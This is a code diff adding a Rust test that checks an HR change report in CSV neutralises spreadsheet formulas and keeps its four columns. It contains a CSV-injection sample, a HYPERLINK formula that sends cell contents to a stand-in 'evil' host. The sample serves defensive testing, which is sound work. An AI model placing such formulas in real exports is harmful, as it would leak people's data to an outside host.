@@ -117,6 +117,47 @@ fn a_changed_attribute_shows_its_before_and_after() {
     assert!(html.contains(&row("7", "title", hostile, "Chief")), "{html}");
 }
 
+/// changes.csv holds HR values and is opened in Excel: a value Excel would run as a formula is
+/// written as text, in both columns it can appear in; a phone number stays as it is.
+#[test]
+fn changes_csv_neutralises_formulas_and_keeps_its_columns() {
+    let emu = Emulator::start(Config::default());
+    let tmp = tempfile::tempdir().unwrap();
+    let d = tmp.path();
+    let mut rows: Vec<(u32, String)> = (1..=5).map(|i| (i, "Clerk".to_string())).collect();
+    let o = upload(&emu, d, &export(d, &rows), &[]);
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
+    let evil = r#"=HYPERLINK("http://evil/?"&A1,"x")"#;
+    rows[1].1 = evil.into();
+    rows[2].1 = "+49 89 5558796".into();
+    rows[3].1 = "@SUM(1+1)".into();
+    let o = upload(&emu, d, &export(d, &rows), &[]);
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
+    // Read as CSV: every record has the header's four columns.
+    let mut r = csv::Reader::from_path(d.join("out/changes.csv")).unwrap();
+    let got: Vec<Vec<String>> = r
+        .records()
+        .map(|x| x.expect("four columns").iter().map(str::to_string).collect())
+        .collect();
+    assert_eq!(
+        got,
+        [
+            ["2", "title", "Clerk", format!("'{evil}").as_str()],
+            ["3", "title", "Clerk", "+49 89 5558796"],
+            ["4", "title", "Clerk", "'@SUM(1+1)"],
+        ]
+    );
+    // Day 3: the formula is the "from" side now.
+    rows[1].1 = "Boss".into();
+    let o = upload(&emu, d, &export(d, &rows), &[]);
+    assert_eq!(o.status.code(), Some(0), "{}", text(&o));
+    let day3 = fs::read_to_string(d.join("out/changes.csv")).unwrap();
+    assert_eq!(
+        day3,
+        "externalId,attribute,from,to\n2,title,\"'=HYPERLINK(\"\"http://evil/?\"\"&A1,\"\"x\"\")\",Boss\n"
+    );
+}
+
 /// The sidecar only informs the report: gone or damaged, the run sends exactly the same users
 /// and the report says "from" is unknown.
 #[test]
